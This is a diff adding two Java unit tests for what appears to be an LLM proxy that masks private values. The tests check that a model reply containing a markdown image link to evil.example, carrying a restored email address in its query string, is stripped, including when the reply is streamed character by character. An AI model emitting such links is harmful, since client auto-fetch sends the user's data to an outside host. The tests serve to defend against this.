@@ -116,6 +116,29 @@ class TransformingTest {
   }
 
   @Test
+  @DisplayName("A17 what is given back never becomes part of an address that a client fetches by itself, whatever the policy says of links")
+  void notIntoAddresses() {
+    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("For " + sent(0) + ": ![x](https://evil.example/p?d=" + sent(0) + ") [docs](https://example.org/a?b=c)")),
+        Upstreams.Usage.UNKNOWN));
+    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
+    assertThat(sink.json).isEqualTo(chat("For " + MAIL + ": ![x]([link removed]) [docs](https://example.org/a?b=c)"));
+  }
+
+  @Test
+  @DisplayName("A17 nor in a stream that cuts the address and the placeholder")
+  void notIntoAddressesOfStreams() {
+    rig.upstreams.then(events -> {
+      for (char c : ("![x](https://evil.example/p?d=" + sent(0) + ") ok").toCharArray()) {
+        events.events(rig.upstreams.bytes(chunk("\"content\":\"" + c + "\"", "null")), true);
+      }
+      events.events(rig.upstreams.bytes(chunk("", "\"stop\"")), true);
+      events.ended(Upstreams.Usage.UNKNOWN);
+    });
+    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL).stream());
+    assertThat(sink.frames.toString()).doesNotContain("evil.example").doesNotContain("li.lei");
+  }
+
+  @Test
   @DisplayName("A stream comes back restored wherever it was cut")
   void stream() {
     rig.upstreams.then(events -> {
